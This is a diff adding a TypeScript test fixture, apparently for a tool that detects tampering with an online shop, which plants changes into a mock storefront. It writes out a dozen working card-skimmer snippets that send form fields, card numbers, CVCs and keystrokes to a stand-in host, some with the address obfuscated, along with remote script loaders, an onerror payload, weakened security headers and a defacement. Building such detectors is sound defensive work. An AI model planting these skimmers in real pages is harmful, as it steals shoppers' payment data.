@@ -1,0 +1,155 @@
+import type { ScriptChangeKind } from '@palisade/vocabulary';
+import { APP, FORM, LAYER, type LabShop, labShop, MANAGER, TAGS } from './lab-shop';
+
+export interface PlantedChange {
+  name: string;
+  shop: LabShop;
+  kind: ScriptChangeKind;
+}
+
+const EVIL = 'https://cdn-metrics.example.org/c';
+const BASE64 = Buffer.from(EVIL).toString('base64');
+const HEX = [...EVIL].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
+const CODES = [...EVIL].map((letter) => letter.charCodeAt(0)).join(',');
+
+/** What skimmers of public reports do. */
+const SKIMMERS: Readonly<Record<string, string>> = {
+  'form data by fetch': `document.forms[0].addEventListener('submit',function(e){fetch('${EVIL}',{method:'POST',body:new FormData(e.target)})});`,
+  'keys by XMLHttpRequest': `document.addEventListener('keyup',function(e){var x=new XMLHttpRequest();x.open('POST','${EVIL}');x.send(e.target.value)});`,
+  'an image as a beacon': `setInterval(function(){new Image().src='${EVIL}?d='+btoa(document.querySelector('#cc-number').value)},2000);`,
+  sendBeacon: `window.addEventListener('beforeunload',function(){navigator.sendBeacon('${EVIL}',document.forms[0].cardNumber.value)});`,
+  'a WebSocket': `var ws=new WebSocket('wss://cdn-metrics.example.org/w');document.onkeydown=function(e){ws.send(e.key)};`,
+  'an address in Base64': `document.forms[0].onsubmit=function(){fetch(atob('${BASE64}'),{method:'POST',body:document.forms[0].cvc.value})};`,
+  'an address in escapes': `document.forms[0].onsubmit=function(){fetch('${HEX}',{method:'POST',body:document.forms[0].cvc.value})};`,
+  'an address as numbers': `var u=String.fromCharCode(${CODES});document.forms[0].onsubmit=function(){new Image().src=u+document.forms[0].cvc.value};`,
+  'a second form in a frame': `var f=document.createElement('iframe');f.src='${EVIL}';document.forms[0].replaceWith(f);`,
+  'a script that is loaded later': `setTimeout(function(){var s=document.createElement('script');s.src='${EVIL}.js';document.body.appendChild(s)},9000);`,
+  'a store on the site itself': `setInterval(function(){localStorage.setItem('_k',JSON.stringify([].map.call(document.forms[0].elements,function(i){return i.value})))},500);`,
+  'a path of the site itself': `document.forms[0].addEventListener('submit',function(e){fetch('/img/p.gif',{method:'POST',body:new FormData(e.target)})});`,
+};
+
+type Place = readonly [name: string, kind: ScriptChangeKind, plant: (skimmer: string) => LabShop];
+
+const base = labShop();
+
+const PLACES: readonly Place[] = [
+  [
+    'as a program in the page',
+    'script_added',
+    (skimmer) => labShop({ body: `${base.body}<script>${skimmer}</script>` }),
+  ],
+  ['in the own file', 'script_changed', (skimmer) => labShop({ own: { '/app.js': `${APP}\n${skimmer}` } })],
+  [
+    'in the file of the tag manager',
+    'script_changed',
+    (skimmer) => labShop({ foreign: { ...base.foreign, [TAGS]: `${MANAGER}${skimmer}` } }),
+  ],
+  [
+    'in a program that the page had',
+    'script_changed',
+    (skimmer) => labShop({ head: base.head.replace(LAYER, `${LAYER}${skimmer}`) }),
+  ],
+  [
+    'in a file that the tag manager loads',
+    'script_added',
+    (skimmer) => {
+      const url = 'https://widgets.example.com/w.js';
+      return labShop({
+        foreign: { ...base.foreign, [url]: skimmer },
+        ran: [...base.ran, { url, initiator: TAGS, contacts: [] }],
+      });
+    },
+  ],
+];
+
+const skimmers = Object.entries(SKIMMERS).flatMap(([skimmer, program]) =>
+  PLACES.map(([place, kind, plant]): PlantedChange => ({
+    name: `${skimmer}, ${place}`,
+    kind,
+    shop: plant(program),
+  })),
+);
+
+const csp = (policy: string): LabShop =>
+  labShop({ headers: { ...base.headers, 'content-security-policy': policy } });
+const without = (name: string): LabShop =>
+  labShop({ headers: Object.fromEntries(Object.entries(base.headers).filter(([each]) => each !== name)) });
+const withForm = (form: string): LabShop => labShop({ body: base.body.replace(FORM, form) });
+
+const others: readonly (readonly [string, ScriptChangeKind, LabShop])[] = [
+  [
+    'a handler of an image',
+    'script_added',
+    labShop({ body: `${base.body}<img src=x onerror="fetch('${EVIL}')">` }),
+  ],
+  [
+    'a file of another host',
+    'script_added',
+    labShop({ head: `${base.head}<script src="${EVIL}.js"></script>` }),
+  ],
+  [
+    'a module',
+    'script_added',
+    labShop({ head: `${base.head}<script type="module" src="${EVIL}.mjs"></script>` }),
+  ],
+  [
+    'another domain in the same program',
+    'script_changed',
+    labShop({
+      foreign: { ...base.foreign, [TAGS]: MANAGER.replace('stats.example.net', 'stats-example.org') },
+    }),
+  ],
+  [
+    'a domain that the file contacts and does not name',
+    'script_changed',
+    labShop({
+      ran: [
+        { url: 'https://stats.example.net/s.js', initiator: TAGS, contacts: ['cdn-metrics.example.org'] },
+      ],
+    }),
+  ],
+  [
+    'the file of the tag manager is gone',
+    'script_removed',
+    labShop({ head: base.head.replace(`src="${TAGS}"`, 'type="a/b"') }),
+  ],
+  ['the policy is gone', 'header_changed', without('content-security-policy')],
+  [
+    'the policy allows another host',
+    'header_changed',
+    csp("default-src 'self'; script-src 'self' 'nonce-n0' https:"),
+  ],
+  [
+    'the policy allows programs in the page',
+    'header_changed',
+    csp("default-src 'self'; script-src 'self' 'unsafe-inline' https://tags.example.net"),
+  ],
+  [
+    'the policy only reports',
+    'header_changed',
+    labShop({
+      headers: {
+        'strict-transport-security': 'max-age=31536000; includeSubDomains',
+        'x-frame-options': 'DENY',
+        'content-security-policy-report-only': "default-src 'self'",
+      },
+    }),
+  ],
+  ['HSTS is gone', 'header_changed', without('strict-transport-security')],
+  ['frames of others are allowed', 'header_changed', without('x-frame-options')],
+  ['a form of another host', 'form_changed', withForm(FORM.replace('/pay/17', EVIL))],
+  ['a form of another path', 'form_changed', withForm(FORM.replace('/pay/17', '/wp-content/p'))],
+  [
+    'the page says something else',
+    'page_changed',
+    labShop({ body: `<h1>Owned by the ghost crew</h1><p>Nothing here is safe any more</p>${FORM}` }),
+  ],
+];
+
+/** Each is one change of the shop, and the kind of it that an alarm has to name. */
+export const PLANTED: readonly PlantedChange[] = [
+  ...skimmers,
+  ...others.map(([name, kind, shop]) => ({ name, kind, shop })),
+  // What is shown to other visitors only.
+  { name: 'a skimmer for telephones alone', kind: 'script_added', shop: base },
+];
